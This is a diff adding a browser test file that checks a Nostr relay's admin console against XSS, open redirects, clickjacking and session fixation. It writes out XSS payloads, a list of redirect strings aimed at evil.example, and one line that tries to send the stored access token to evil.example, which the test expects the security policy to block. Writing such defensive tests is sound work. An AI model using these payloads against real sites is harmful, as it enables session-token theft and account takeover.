@@ -1,0 +1,160 @@
+import { finalizeEvent } from 'nostr-tools/pure'
+import type { Browser, BrowserContext, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { openBrowser } from '../dev/browser.ts'
+import { newOperator, type RelayProcess, startRelay } from './world.ts'
+
+/** Attacks on who is signed in, tried in the browser against the real relay. */
+
+const operator = newOperator()
+const script = `<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>`
+
+let relay: RelayProcess
+let browser: Browser
+let session: { token: string; user: object }
+let context: BrowserContext
+let page: Page
+
+async function post(path: string, body: object, token?: string): Promise<never> {
+  const answer = await fetch(relay.adminUrl + path, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json', ...(token && { authorization: `Bearer ${token}` }) },
+    body: JSON.stringify(body),
+  })
+  if (!answer.ok) throw new Error(`${path}: ${answer.status} ${await answer.text()}`)
+  return (await answer.json()) as never
+}
+
+/** Puts a session into the browser, as whoever can write its storage might. */
+const plant = (token: string, user: object) =>
+  page.evaluate(
+    ([token, user]) => {
+      localStorage.setItem('accessToken', token as string)
+      localStorage.setItem('user', user as string)
+    },
+    [token, JSON.stringify(user)],
+  )
+
+beforeAll(async () => {
+  ;[relay, browser] = await Promise.all([startRelay(), openBrowser()])
+  const { pubkey: npub, password, secretKey } = operator
+  await post('/signup', { npub, password, confirmPassword: password, termOfUse: true })
+  const { event } = (await post('/login', { npub, password })) as { event: Parameters<typeof finalizeEvent>[0] }
+  const signed = finalizeEvent(event, secretKey)
+  const answer = { challenge: signed.content, signature: signed.sig, messageHash: signed.id, event: signed }
+  const { token } = (await post('/verify', answer)) as { token: string }
+  const said = { firstName: script, lastName: script, userName: script, city: script }
+  const { user } = (await post('/api/account/profile', said, token)) as { user: object }
+  session = { token, user }
+  await post('/api/blocked-pubkeys', { pubkey: newOperator().pubkey, reason: script }, token)
+  context = await browser.newContext({ locale: 'en-US' })
+  page = await context.newPage()
+})
+afterAll(async () => {
+  await browser?.close()
+  await relay?.stop()
+})
+
+describe('an open redirect by the remembered origin', () => {
+  test.each([
+    'javascript:document.title="owned"',
+    '//evil.example/',
+    '/\\evil.example/',
+    '/\t/evil.example/',
+    '/..//evil.example/',
+    'https://evil.example/',
+    '%2f%2fevil.example/',
+    '/%2f%2fevil.example/',
+    '/%5cevil.example/',
+  ])('%j stays in the console', async origin => {
+    await page.goto(`${relay.adminUrl}/mark.svg`)
+    await plant(session.token, session.user)
+    await page.evaluate(path => sessionStorage.setItem('origin', path), origin)
+    await page.goto(`${relay.adminUrl}/auth/login`).catch(() => null)
+    await page.waitForURL(url => !url.pathname.startsWith('/auth/'))
+    expect([new URL(page.url()).origin, await page.title()]).toEqual([
+      relay.adminUrl,
+      expect.not.stringMatching('owned'),
+    ])
+  })
+})
+
+test('token theft by a script in a profile or a reason: it is shown as text, on the lock too, and the policy would stop it', async () => {
+  await page.goto(`${relay.adminUrl}/mark.svg`)
+  await plant(session.token, session.user)
+  await page.goto(`${relay.adminUrl}/blocked-pubkeys`)
+  await page.getByText(script).filter({ visible: true }).first().waitFor()
+  await page.getByRole('button', { name: 'Profile menu' }).click()
+  await page.getByRole('menu').getByText(script).filter({ visible: true }).first().waitFor()
+  await page.goto(`${relay.adminUrl}/profile/personal-info`)
+  await page.getByRole('heading', { level: 1 }).first().waitFor()
+  await page.goto(`${relay.adminUrl}/auth/lock`)
+  await page.getByText(script).filter({ visible: true }).first().waitFor()
+  expect(await page.title()).not.toBe('owned')
+  // As if it had come into the page as markup after all.
+  const refused = await page.evaluate(
+    markup =>
+      new Promise<string[]>(resolve => {
+        const seen: string[] = []
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+          seen.push(effectiveDirective)
+          if (seen.length === 3) resolve(seen.sort())
+        })
+        const place = document.body.appendChild(document.createElement('div'))
+        place.innerHTML = markup
+        const inline = document.createElement('script')
+        inline.textContent = "document.title='owned'"
+        place.append(inline)
+        const foreign = document.createElement('img')
+        foreign.src = `https://evil.example/?${localStorage.getItem('accessToken')}`
+        place.append(foreign)
+      }),
+    script,
+  )
+  expect([refused, await page.title()]).toEqual([
+    ['img-src', 'script-src-attr', 'script-src-elem'],
+    expect.not.stringMatching('owned'),
+  ])
+  await page.evaluate(() => localStorage.removeItem('locked'))
+})
+
+test('clickjacking: no document of the console lets itself be framed', async () => {
+  const frames = ['/', '/auth/login', '/auth/lock', '/auth/sign-up', '/wallet', '/logout']
+  await page.setContent(frames.map(path => `<iframe src="${relay.adminUrl}${path}"></iframe>`).join(''))
+  for (const path of frames) {
+    const answer = await fetch(relay.adminUrl + path, { headers: { accept: 'text/html' } })
+    expect(answer.headers.get('content-security-policy'), path).toContain("frame-ancestors 'none'")
+  }
+  await expect
+    .poll(() =>
+      page
+        .frames()
+        .slice(1)
+        .map(frame => frame.url()),
+    )
+    .toEqual(frames.map(() => 'chrome-error://chromewebdata/'))
+})
+
+test('session fixation: a token that was planted is none, and signing in makes a new one', async () => {
+  await page.goto(`${relay.adminUrl}/mark.svg`)
+  await plant('planted-by-somebody', session.user)
+  await page.goto(`${relay.adminUrl}/blocked-pubkeys`)
+  await page.waitForURL('**/auth/login')
+  await page.getByText('Authentication failed. You have been logged out.').waitFor()
+  expect(await page.evaluate(() => [localStorage.getItem('accessToken'), localStorage.getItem('user')])).toEqual([
+    null,
+    null,
+  ])
+  const { npub, password } = { npub: operator.pubkey, password: operator.password }
+  const { event } = (await post('/login', { npub, password })) as { event: Parameters<typeof finalizeEvent>[0] }
+  const signed = finalizeEvent(event, operator.secretKey)
+  const body = {
+    challenge: signed.content,
+    signature: signed.sig,
+    messageHash: signed.id,
+    event: signed,
+    token: 'planted',
+  }
+  const { token } = (await post('/verify', body)) as { token: string }
+  expect([token === 'planted', token === session.token, token.length > 30]).toEqual([false, false, true])
+})
